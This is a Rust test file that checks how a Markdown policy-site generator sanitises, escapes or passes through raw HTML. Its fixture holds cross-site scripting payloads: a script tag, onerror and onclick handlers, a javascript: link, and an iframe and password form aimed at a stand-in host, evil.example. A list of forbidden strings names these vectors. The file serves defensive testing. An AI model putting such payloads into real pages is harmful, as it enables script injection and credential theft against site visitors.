//! Raw HTML in Markdown: sanitised by default, escaped or kept as configured.

mod common;

use std::fs;

use common::{build_json, write_project};

const HOSTILE_BODY: &str = "# Policy\n\n<script>alert('xss')</script>\n\n<img src=\"../logo.png\" onerror=\"alert(1)\" alt=\"logo\">\n\n<a href=\"javascript:alert(2)\">click</a>\n\n<iframe src=\"https://evil.example/\"></iframe>\n\n<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"><button>Send</button></form>\n\n<p onclick=\"steal()\" style=\"position:fixed\">Kept text</p>\n\n| Left | Right |\n|:-----|------:|\n| a    | b     |\n\n- [x] done\n";

fn build_with(raw_html: Option<&str>) -> String {
    let config = match raw_html {
        Some(mode) => format!("title = \"T\"\nraw_html = \"{mode}\"\n"),
        None => "title = \"T\"\n".to_string(),
    };
    let doc = format!("---\nid: POL-X\ntitle: X\nstatus: approved\n---\n{HOSTILE_BODY}");
    let project = write_project(&[("annexa.toml", &config), ("policies/x.md", &doc)]);
    let out = project.beside("site");
    let built = build_json(&project.root, &out);
    assert_eq!(built.code, 0, "{built}");
    fs::read_to_string(out.join("docs/pol-x.html")).unwrap_or_default()
}

fn body(page: &str) -> &str {
    let start = page.find("<div class=\"doc-body\">").unwrap_or(0);
    let end = page[start..]
        .find("</article>")
        .map_or(page.len(), |e| start + e);
    &page[start..end]
}

#[test]
fn raw_html_is_sanitised_by_default() {
    let page = build_with(None);
    let body = body(&page);
    for forbidden in [
        "<script",
        "onerror",
        "javascript:",
        "<iframe",
        "<form",
        "onclick",
        "style=",
        "type=\"password\"",
    ] {
        assert!(
            !body.contains(forbidden),
            "`{forbidden}` survived sanitising:\n{body}"
        );
    }
    assert!(body.contains("Kept text"), "{body}");
    assert!(body.contains("alt=\"logo\""), "{body}");
    assert!(
        body.contains("class=\"align-right\""),
        "table alignment becomes a class: {body}"
    );
    assert!(
        body.contains("type=\"checkbox\""),
        "task lists keep their checkbox: {body}"
    );
}

#[test]
fn raw_html_can_be_escaped() {
    let page = build_with(Some("escape"));
    let body = body(&page);
    assert!(!body.contains("<script"), "{body}");
    assert!(body.contains("&lt;script&gt;"), "{body}");
}

#[test]
fn raw_html_can_be_allowed_for_trusted_repositories() {
    let page = build_with(Some("allow"));
    assert!(body(&page).contains("<script>alert('xss')</script>"));
}

#[test]
fn an_unknown_mode_is_a_config_error() {
    let project = write_project(&[
        ("annexa.toml", "raw_html = \"strip\"\n"),
        ("a.md", "---\nid: A\ntitle: A\n---\n"),
    ]);
    let out = project.beside("site");
    let built = build_json(&project.root, &out);
    assert_eq!(built.code, 1, "{built}");
    let errors = built.errors();
    assert_eq!(errors[0].name, "invalid-config", "{built}");
    assert_eq!(errors[0].line, Some(1), "{built}");
}
